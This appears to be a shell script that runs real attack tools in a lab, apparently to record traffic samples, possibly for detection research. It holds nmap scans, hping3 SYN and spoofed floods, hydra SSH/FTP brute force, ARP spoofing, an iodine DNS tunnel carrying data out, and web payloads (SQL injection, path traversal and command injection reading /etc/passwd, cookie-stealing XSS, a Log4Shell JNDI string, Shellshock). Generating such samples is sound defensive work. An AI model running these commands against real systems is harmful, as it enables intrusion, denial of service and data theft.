# What is recorded: one function a sample. Each runs a real tool and is sourced by record-samples.sh.

lab_ordinary() { sleep 40; }

nmap_syn_scan() { on "$attacker" nmap -sS -Pn -n --top-ports 500 "$victim_address"; }

nmap_version_scan() { on "$attacker" nmap -sT -sV -Pn -n -p 1-120 "$victim_address"; }

nmap_ping_sweep() { on "$attacker" nmap -sn -n 10.77.0.0/24; }

nmap_udp_scan() { on "$attacker" nmap -sU -Pn -n --top-ports 25 --max-retries 1 "$victim_address"; }

nmap_xmas_scan() { on "$attacker" nmap -sX -Pn -n --top-ports 150 "$victim_address"; }

hping3_syn_flood() { on "$attacker" hping3 -q -S -p 80 -i u2000 -c 4000 "$victim_address"; }

hping3_spoofed_flood() {
  # It waits for answers that cannot come to it, so it must be stopped from outside.
  on "$attacker" timeout --signal=INT 10 hping3 -q -S -p 80 -i u2000 -c 4000 --rand-source "$victim_address" || true
}

hydra_ssh() { on "$attacker" hydra -q -I -t 4 -l admin -P "$work/passwords" "ssh://$victim_address"; }

hydra_ftp() { on "$attacker" hydra -q -I -t 4 -l admin -P "$work/passwords" "ftp://$victim_address"; }

curl_web_attacks() {
  local site=http://$victim_address
  local target
  for target in \
    "/product.php?id=1%27%20OR%20%271%27=%271" \
    "/product.php?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--" \
    "/download?file=../../../../etc/passwd" \
    "/ping?host=127.0.0.1;cat%20/etc/passwd" \
    "/search?q=<script>alert(document.cookie)</script>" \
    "/uploads/shell.php?cmd=id" "/.git/config" "/.env" "/wp-login.php"; do
    on "$attacker" curl --silent --globoff --path-as-is --output /dev/null "$site$target"
    sleep 0.7
  done
  on "$attacker" curl -s -o /dev/null -A '${jndi:ldap://198.51.100.9:1389/a}' "$site/"
  sleep 0.5
  on "$attacker" curl -s -o /dev/null -A '() { :;}; /bin/bash -c "cat /etc/passwd"' "$site/cgi-bin/status"
}

arpspoof() {
  echo 1 | on "$attacker" tee /proc/sys/net/ipv4/ip_forward >/dev/null
  on "$attacker" timeout 20 arpspoof -i eth0 -t "$client_address" "$victim_address" || true
  echo 0 | on "$attacker" tee /proc/sys/net/ipv4/ip_forward >/dev/null
}

iodine_tunnel() {
  on "$victim" iodined -f -c -P secret -p 5300 10.99.0.1 t.lab.example >"$work/iodined.log" 2>&1 &
  sleep 1
  on "$attacker" iodine -f -r -T TXT -P secret "$victim_address" t.lab.example >"$work/iodine.log" 2>&1 &
  # The two agree on record type, encoding and fragment size first.
  for _ in {1..40}; do
    on "$attacker" ping -c 1 -W 1 10.99.0.1 >/dev/null 2>&1 && break
    sleep 0.5
  done
  on "$attacker" ping -c 15 -i 0.4 10.99.0.1
  head -c 24000 /dev/urandom >"$work/loot"
  on "$attacker" curl --silent --max-time 25 --output /dev/null --data-binary "@$work/loot" \
    http://10.99.0.1/
  ip netns pids "$attacker" | xargs --no-run-if-empty kill || true
}
